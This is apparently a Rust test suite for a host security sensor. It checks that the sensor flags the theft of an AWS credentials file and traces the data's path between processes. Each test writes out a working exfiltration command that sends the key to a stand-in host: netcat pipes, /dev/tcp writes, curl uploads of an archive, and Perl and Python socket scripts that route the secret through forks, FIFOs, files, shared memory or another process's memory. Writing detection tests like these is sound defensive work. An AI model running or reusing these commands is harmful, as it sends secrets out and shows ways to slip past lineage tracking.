//! A secret that goes from process to process before it leaves: the alert tells each hop.

use std::{fs, os::unix::fs::PermissionsExt, path::PathBuf, process::Stdio};

use sentinel_tests::{
    bed::Bed,
    outside::{ADDRESS, Outside},
    sentinel::{PATIENCE, Sentinel, within},
};
use serde_json::Value;

const TOKEN: &str = "[default]\naws_secret_access_key = wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY\n";

/// A file with a token in it.
fn key(bed: &Bed) -> PathBuf {
    fs::create_dir_all(bed.path(".aws")).unwrap();
    let key = bed.path(".aws/credentials");
    fs::write(&key, TOKEN).unwrap();
    fs::set_permissions(&key, fs::Permissions::from_mode(0o600)).unwrap();
    key
}

/// Runs `line` with KEY, HOST and PORT put in; returns the alerts of the rule.
fn told(line: &[&str]) -> Vec<Value> {
    let Some(bed) = Bed::new() else { return Vec::new() };
    let (outside, key) = (Outside::new(), key(&bed));
    let sentinel = Sentinel::start(&bed, &[]);
    let (there, loot) = outside.peer(ADDRESS);
    let code = |word: &&str| {
        word.replace("KEY", key.to_str().unwrap())
            .replace("HOST", ADDRESS)
            .replace("PORT", &there.port().to_string())
    };
    let mut command = outside.command(&bed, line[0]);
    command.args(line[1..].iter().map(code)).stdin(Stdio::null()).stdout(Stdio::null());
    assert!(command.status().unwrap().success());
    assert!(within(PATIENCE, || !loot.bytes().is_empty()), "nothing came");
    let all = sentinel.stop().alerts.into_iter();
    all.filter(|alert| alert["pattern_name"] == "credential_exfil").collect()
}

/// One critical alert about the program `sender`, whose data came `through` so many hops.
fn check(alerts: &[Value], sender: &str, through: &[&str]) {
    if !nix::unistd::geteuid().is_root() {
        return;
    }
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let alert = &alerts[0];
    assert_eq!(alert["severity"], "critical");
    assert!(alert["exe"].as_str().unwrap().contains(sender), "{alert:#}");
    let hops = hops(alerts);
    assert_eq!(hops.len(), through.len(), "{hops:?}");
    assert!(hops.iter().zip(through).all(|(hop, way)| hop.ends_with(way)), "{hops:?}");
}

/// How the data of the first alert came to who sent it.
fn hops(alerts: &[Value]) -> Vec<String> {
    let steps = alerts.first().and_then(|alert| alert["steps"].as_array());
    let hops = steps.into_iter().flatten().filter(|step| step["event"] == "lineage");
    hops.map(|step| step["detail"].as_str().unwrap().to_owned()).collect()
}

/// Likewise, through so many files, of which the paths are told.
fn check_files(alerts: &[Value], sender: &str, count: usize) {
    let told = hops(alerts);
    check(alerts, sender, &told.iter().map(String::as_str).collect::<Vec<_>>());
    let is_file = |hop: &String| hop.contains("through the file /");
    assert!(alerts.is_empty() || told.len() == count && told.iter().all(is_file), "{told:?}");
}

#[test]
fn through_a_pipe() {
    let alerts = told(&["bash", "-c", "cat KEY | nc.openbsd -N HOST PORT"]);
    check(&alerts, "nc.openbsd", &["through a pipe"]);
}

#[test]
fn through_pipes_and_encoders() {
    let alerts = told(&["bash", "-c", "cat KEY | tr a-z n-za-m | rev | nc.openbsd -N HOST PORT"]);
    check(&alerts, "nc.openbsd", &["through a pipe"; 3]);
}

#[test]
fn through_a_fifo() {
    let line =
        "d=$(mktemp -d); mkfifo $d/f; cat KEY >$d/f & nc.openbsd -N HOST PORT <$d/f; rm -r $d";
    check(&told(&["bash", "-c", line]), "nc.openbsd", &["through a pipe"]);
}

#[test]
fn through_a_shells_variable() {
    let alerts = told(&["bash", "-c", "x=$(cat KEY); echo \"$x\" >/dev/tcp/HOST/PORT"]);
    check(&alerts, "bash", &["through a pipe"]);
}

#[test]
fn through_a_fork() {
    let code = "open F,'<KEY'; local $/; $x = <F>; if (!fork) { socket S,2,1,0; \
                connect S,pack_sockaddr_in(PORT,inet_aton('HOST')) or die; syswrite S,$x; exit } wait";
    check(&told(&["perl", "-MSocket", "-e", code]), "perl", &["at its fork"]);
}

#[test]
fn through_a_socketpair() {
    let code = "socketpair A,B,1,1,0; if (!fork) { close A; sysread B,$x,4096; socket S,2,1,0; \
                connect S,pack_sockaddr_in(PORT,inet_aton('HOST')) or die; syswrite S,$x; exit } \
                close B; open F,'<KEY'; local $/; syswrite A,<F>; close A; wait";
    check(&told(&["perl", "-MSocket", "-e", code]), "perl", &["through a socket"]);
}

#[test]
fn a_shell_that_only_joins_the_two_is_not_meant() {
    let line =
        "cat KEY | nc.openbsd -N HOST PORT; head -c 5000 /dev/zero | nc.openbsd -N HOST PORT";
    check(&told(&["bash", "-c", line]), "nc.openbsd", &["through a pipe"]);
}

#[test]
fn through_a_file() {
    let line = "f=$(mktemp); cat KEY >$f; nc.openbsd -N HOST PORT <$f; rm $f";
    check_files(&told(&["bash", "-c", line]), "nc.openbsd", 1);
}

#[test]
fn through_an_archive() {
    let line =
        "d=$(mktemp -d); tar -cf $d/a KEY 2>/dev/null; curl -s -T $d/a http://HOST:PORT/; rm -r $d";
    check_files(&told(&["bash", "-c", line]), "curl", 1);
}

#[test]
fn through_files_that_are_renamed_and_copied() {
    let line = "d=$(mktemp -d); cat KEY >$d/a; mv $d/a $d/b; cp $d/b $d/c; ln $d/c $d/d; \
                nc.openbsd -N HOST PORT <$d/d; rm -r $d";
    check_files(&told(&["bash", "-c", line]), "nc.openbsd", 2);
}

#[test]
fn through_a_pipe_and_a_file() {
    let line = "f=$(mktemp); cat KEY | rev | tee $f >/dev/null; nc.openbsd -N HOST PORT <$f; rm $f";
    let alerts = told(&["bash", "-c", line]);
    let file = hops(&alerts).last().cloned().unwrap_or_default();
    check(&alerts, "nc.openbsd", &["through a pipe", "through a pipe", &file]);
    assert!(alerts.is_empty() || file.contains("through the file /"), "{file}");
}

/// A child that is there before the secret is read, and sends what it gets from its parent.
fn by_two(prepare: &str, child: &str, parent: &str) -> Vec<Value> {
    let code = format!(
        "import os, socket, mmap, time, ctypes\n\
         def send(data):\n    s = socket.create_connection(('HOST', PORT)); s.sendall(data); s.close()\n\
         {prepare}\n\
         if os.fork() == 0:\n    {child}\n    os._exit(0)\n\
         key = open('KEY', 'rb').read()\n\
         {parent}\n\
         os.wait()"
    );
    told(&["python3", "-c", &code])
}

#[test]
fn through_memory_that_has_a_name() {
    let map = "f = os.open(p, os.O_RDWR); m = mmap.mmap(f, 4096); os.close(f)";
    let prepare = "p = '/dev/shm/%d' % os.getpid(); f = os.open(p, os.O_RDWR | os.O_CREAT); \
                   os.truncate(f, 4096); os.close(f)";
    let child =
        format!("{map}; os.unlink(p)\n    while not m[0]: time.sleep(0.01)\n    send(m[:100])");
    let wait = "while os.path.exists(p): time.sleep(0.01)";
    let parent = format!("{wait}\nm[1:len(key)] = key[1:]; m[0] = key[0]");
    let alerts = by_two(&format!("{prepare}; {map}"), &child, &parent);
    check(&alerts, "python", &["through shared memory"]);
}

#[test]
fn through_a_service_on_a_unix_socket() {
    let prepare = "l = socket.socket(socket.AF_UNIX); l.bind('\\0%d' % os.getpid()); l.listen(); \
                   a = l.getsockname()";
    let child = "c = l.accept()[0]; send(c.recv(4096))";
    let parent =
        "l.close(); c = socket.socket(socket.AF_UNIX); c.connect(a); c.send(key); c.close()";
    check(&by_two(prepare, child, parent), "python", &["through a socket"]);
}

#[test]
fn through_a_look_into_memory() {
    let prepare = "r, w = os.pipe(); b = ctypes.create_string_buffer(4096); l = ctypes.CDLL(None)\n\
                   class V(ctypes.Structure):\n    _fields_ = [('p', ctypes.c_void_p), ('n', ctypes.c_size_t)]\n\
                   v = V(ctypes.addressof(b), 100); us = os.getpid()";
    let child = "os.read(r, 1); l.process_vm_readv(us, ctypes.byref(v), 1, ctypes.byref(v), 1, 0); \
                 send(b.raw[:100])";
    let alerts = by_two(prepare, child, "b.raw = key + bytes(4096 - len(key)); os.write(w, b'x')");
    check(&alerts, "python", &["from its memory"]);
}

/// The sensor tells each send of who has read a secret; of who has got its data it has to be told so.
#[test]
fn a_service_that_goes_on_is_told_while_it_does() {
    let Some(bed) = Bed::new() else { return };
    let (outside, key) = (Outside::new(), key(&bed));
    let mut sentinel = Sentinel::start(&bed, &[]);
    let (there, loot) = outside.peer(ADDRESS);
    let code = format!(
        "import os, socket, time\n\
         s = socket.create_connection(('{ADDRESS}', {})); s.send(b'hello')\n\
         l = socket.socket(socket.AF_UNIX); l.bind('\\0%d' % os.getpid()); l.listen()\n\
         if os.fork() == 0:\n    s.close(); c = socket.socket(socket.AF_UNIX); c.connect(l.getsockname())\n    \
             c.send(open('{}', 'rb').read()); time.sleep(600)\n\
         c = l.accept()[0]; d = c.recv(4096) * 8\n\
         while True: time.sleep(0.2); s.send(d)",
        there.port(),
        key.display()
    );
    let mut service = outside.command(&bed, "python3").args(["-c", &code]).spawn().unwrap();
    assert!(within(PATIENCE, || loot.bytes().len() > TOKEN.len() * 8), "nothing came");
    sentinel.wait_until_told("credential_exfil");
    service.kill().unwrap();
    service.wait().unwrap();
    let alerts = sentinel.stop().alerts;
    let mut told = alerts.iter().filter(|alert| alert["pattern_name"] == "credential_exfil");
    let is_it =
        |alert: &Value| alert["remote_port"] == there.port() && alert["severity"] == "critical";
    assert!(told.any(is_it), "{alerts:#?}");
}
